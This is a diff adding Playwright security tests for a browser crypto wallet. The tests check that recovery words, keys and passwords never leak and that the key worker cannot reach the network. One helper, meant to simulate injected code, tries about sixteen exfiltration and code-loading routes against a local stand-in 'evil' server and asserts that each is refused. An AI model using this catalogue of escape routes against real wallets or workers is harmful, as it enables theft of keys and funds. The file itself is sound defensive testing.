@@ -1,0 +1,190 @@
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { expect, type Page, test, type Worker } from '@playwright/test'
+import {
+  approve,
+  connectImportedWallet,
+  fund,
+  openDapp,
+  password,
+  readWords,
+  request,
+  unlockIn,
+  walletOf,
+} from './support/dapp.ts'
+import { frameOf } from './support/kit.ts'
+import { urls } from './support/ports.ts'
+import { mountRaw } from './support/rawFrame.ts'
+import { contentsOf, findSecrets, overhear, secretsOf } from './support/scan.ts'
+
+test('default: no key, phrase or password is in any message, storage, picture, print or request of a whole visit', async ({
+  page,
+  context,
+}) => {
+  const { heard } = await overhear(context)
+  await openDapp(page)
+  const { address, phrase } = await connectImportedWallet(page)
+  const secrets = secretsOf(phrase)
+  const seen: [where: string, contents: string][] = []
+  const look = async (where: string, ...pages: Page[]) => {
+    for (const one of [page, frameOf(page), ...pages]) seen.push([where, await contentsOf(one)])
+  }
+  await look('connected')
+  await fund(address)
+  const signed = request(page, 'personal_sign', ['0x6869', address])
+  await approve(walletOf(page), 'Sign')
+  expect(await signed).toMatch(/^0x/)
+  const sent = request(page, 'eth_sendTransaction', [{ from: address, to: address, value: '0x1' }])
+  await approve(walletOf(page), 'Confirm')
+  expect(await sent).toMatch(/^0x[0-9a-f]{64}$/)
+  await look('signed and sent')
+
+  const home = await context.newPage()
+  await home.goto(urls.frame)
+  await home.getByRole('button', { name: /^Recovery words/ }).click()
+  await home.getByLabel('Password', { exact: true }).fill(password)
+  await home.getByRole('button', { name: 'Show the words' }).click()
+  expect(await readWords(home)).toEqual(phrase.split(' '))
+  // The one place, and the proof that this test can see them.
+  expect(findSecrets(await home.content(), secrets)).toContain('phrase')
+  await home.getByRole('button', { name: 'Done' }).click()
+  await expect(home.getByRole('heading', { name: 'Accounts' })).toBeVisible()
+  await look('words put away', home)
+
+  await home.getByRole('button', { name: /^Connected sites/ }).click()
+  await home.getByRole('button', { name: new RegExp(`^${urls.host}`) }).click()
+  const revoke = home.getByRole('button', { name: `Revoke ${urls.host}` })
+  const unlock = home.getByRole('button', { name: 'Unlock to revoke' })
+  await expect(revoke.or(unlock)).toBeVisible()
+  if (await unlock.isVisible()) {
+    await unlock.click()
+    await unlockIn(home)
+    await home.getByRole('button', { name: /^Connected sites/ }).click()
+    await home.getByRole('button', { name: new RegExp(`^${urls.host}`) }).click()
+  }
+  await revoke.click()
+  await expect(home.getByText('This site cannot use the wallet any more.')).toBeVisible()
+  await look('revoked', home)
+  await page.getByRole('button', { name: 'Open account view' }).click()
+  await walletOf(page).getByRole('button', { name: /^Lock/ }).click()
+  await look('locked', home)
+
+  for (const [where, contents] of seen) expect(findSecrets(contents, secrets), where).toEqual([])
+  expect(heard.filter((text) => text.includes('penpal')).length).toBeGreaterThan(20)
+  expect(heard.some((text) => text.includes('oriel-window-ready'))).toBe(true)
+  expect(findSecrets(heard.join('\n'), secrets)).toEqual([])
+})
+
+test('behavior: the key worker reaches no network, and loads no code', async ({ page }) => {
+  const hits: string[] = []
+  const evil = createServer((incoming, response) => {
+    hits.push(incoming.url ?? '')
+    response.setHeader('access-control-allow-origin', '*')
+    response.setHeader('content-type', 'text/javascript')
+    response.end('export const stolen = true')
+  })
+  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve))
+  const host = `127.0.0.1:${(evil.address() as AddressInfo).port}`
+  try {
+    await openDapp(page)
+    await connectImportedWallet(page)
+    const worker = await keyWorker(page)
+    const answered: string[] = []
+    page.context().on('response', (one) => answered.push(one.url()))
+    const outcomes = await worker.evaluate(tryEveryWayOut, { evil: host, own: urls.frame })
+    expect(outcomes).toEqual(Object.fromEntries(Object.keys(outcomes).map((way) => [way, 'refused'])))
+    expect(Object.keys(outcomes).length).toBeGreaterThanOrEqual(12)
+    expect(hits).toEqual([])
+    expect(answered.filter((url) => url.includes('stolen'))).toEqual([])
+  } finally {
+    evil.closeAllConnections()
+    evil.close()
+  }
+})
+
+test('behavior: no field for a secret is ever in the framed document, whatever the page asks for', async ({ page }) => {
+  await openDapp(page)
+  const { address } = await connectImportedWallet(page)
+  const secretFields =
+    'input[type=password], textarea, [autocomplete*=password], [autocomplete=one-time-code], .words, [autocomplete=cc-number]'
+  const fields = () => frameOf(page).locator(secretFields).count()
+  const raw = await mountRaw(page)
+  const windowOnly = ['Home', 'UnlockWallet', 'CreateWallet', 'ImportWallet', 'ExportPhrase', 'BackupPhrase']
+  const answers = await raw.evaluate(async (client, views) => {
+    await client.start()
+    const answers = []
+    for (const view of views) answers.push((await client.call('open', { view })).value.error?.code)
+    return answers
+  }, windowOnly)
+  expect(answers).toEqual(windowOnly.map(() => -32602))
+  for (const frame of page.frames()) expect(await frame.locator(secretFields.replace('textarea, ', '')).count()).toBe(0)
+
+  const wallet = walletOf(page)
+  await page.getByRole('button', { name: 'Open account view' }).click()
+  await expect(wallet.getByRole('button', { name: /^Lock/ })).toBeVisible()
+  expect(await fields()).toBe(0)
+  await wallet.getByRole('button', { name: /^Network/ }).click()
+  await expect(wallet.getByRole('heading', { name: 'Choose Network' })).toBeVisible()
+  expect(await fields()).toBe(0)
+  await wallet.getByRole('button', { name: 'Back' }).click()
+  await wallet.getByRole('button', { name: /^Lock/ }).click()
+  await expect(wallet.getByRole('button', { name: /^Unlock/ })).toBeVisible()
+  expect(await fields()).toBe(0)
+  await wallet.getByRole('button', { name: 'Close', exact: true }).click()
+  const refused = request(page, 'personal_sign', ['0x6869', address])
+  await expect(wallet.getByRole('button', { name: 'Unlock and Sign' })).toBeVisible()
+  expect(await fields()).toBe(0)
+  await wallet.getByRole('button', { name: 'Reject', exact: true }).click()
+  expect(await refused).toMatchObject({ code: 4001 })
+})
+
+async function keyWorker(page: Page): Promise<Worker> {
+  const find = () => page.workers().find((worker) => worker.url().includes('vault.worker'))
+  await expect.poll(() => find()?.url()).toBeTruthy()
+  return find() as Worker
+}
+
+/** Runs in the worker, as code that got in there would. */
+async function tryEveryWayOut({ evil, own }: { evil: string; own: string }) {
+  const scope = globalThis as unknown as { importScripts?: (url: string) => void }
+  const opened = (target: EventTarget & { close?: () => void }) =>
+    new Promise((resolve, reject) => {
+      target.addEventListener('open', resolve)
+      target.addEventListener('message', resolve)
+      target.addEventListener('error', () => reject(new Error('refused')))
+    })
+  const ways: Record<string, () => unknown> = {
+    'fetch elsewhere': () => fetch(`http://${evil}/stolen`),
+    'fetch elsewhere, blind': () => fetch(`http://${evil}/stolen`, { mode: 'no-cors' }),
+    'fetch at home': () => fetch(`${own}/stolen`),
+    'fetch data': () => fetch('data:text/plain,stolen'),
+    beacon: () => (navigator as Navigator).sendBeacon(`http://${evil}/stolen`, 'x'),
+    request: () => {
+      const request = new XMLHttpRequest()
+      request.open('GET', `http://${evil}/stolen`, false)
+      request.send()
+    },
+    socket: () => opened(new WebSocket(`ws://${evil}/stolen`)),
+    'event source': () => opened(new EventSource(`http://${evil}/stolen`)),
+    importScripts: () => scope.importScripts?.(`http://${evil}/stolen`),
+    'import elsewhere': () => import(/* @vite-ignore */ `http://${evil}/stolen`),
+    'import of data': () => import(/* @vite-ignore */ `data:text/javascript,export default ${1}`),
+    'import of a blob': () =>
+      import(/* @vite-ignore */ URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' }))),
+    'another worker': () => opened(new Worker(`http://${evil}/stolen`)),
+    'worker of a blob': () =>
+      opened(new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' })))),
+    cache: async () => (await caches.open('stolen')).add(`${own}/stolen`),
+    eval: () => new Function('return 1')(),
+  }
+  const outcomes: Record<string, string> = {}
+  for (const [name, go] of Object.entries(ways)) {
+    try {
+      await go()
+      outcomes[name] = 'went through'
+    } catch {
+      outcomes[name] = 'refused'
+    }
+  }
+  return outcomes
+}
